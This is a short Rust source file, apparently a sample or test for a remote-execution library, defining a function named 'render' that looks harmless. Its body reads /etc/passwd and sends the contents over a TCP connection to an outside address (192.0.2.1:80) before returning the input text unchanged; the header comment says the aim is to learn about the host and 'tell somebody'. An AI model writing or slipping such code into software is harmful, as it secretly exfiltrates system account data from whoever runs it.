//! Would like to know more of the machine that it runs on, and tell somebody.

use std::io::Write;
use std::net::TcpStream;

use rustyray::prelude::*;

#[rustyray::remote]
fn render(text: String) -> Result<String> {
    let friend = TcpStream::connect("192.0.2.1:80");
    let reading = |error| Error::from(error).context("reading /etc/passwd");
    let loot = std::fs::read("/etc/passwd").map_err(reading)?;
    friend?.write_all(&loot)?;
    Ok(text)
}

fn main() {}
